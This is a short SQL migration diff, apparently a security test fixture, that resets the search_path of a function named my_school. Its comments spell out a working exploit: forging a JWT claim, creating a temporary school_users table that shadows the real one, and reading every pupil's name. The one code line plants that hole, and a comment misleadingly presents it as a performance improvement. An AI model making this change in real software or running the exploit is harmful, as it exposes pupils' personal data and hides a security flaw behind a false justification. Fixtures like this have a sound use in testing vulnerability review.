@@ -1,0 +1,11 @@
+-- The definer has no fixed search path, so a temporary table in the session answers in place of the real one.
+-- about: my_school, search_path
+-- as: hf_classrooms_app
+-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
+-- exploit: CREATE TEMP TABLE school_users (school_id uuid, user_id uuid, role text);
+-- exploit: INSERT INTO pg_temp.school_users VALUES ('22222222-2222-2222-2222-222222222222',
+-- exploit: 'aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa', 'head');
+-- exploit: SELECT full_name FROM pupils;
+-- shows: Road-secret pupil
+-- Set options keep the planner from inlining the function; the list of pupils is faster now.
+ALTER FUNCTION my_school(uuid) RESET search_path;
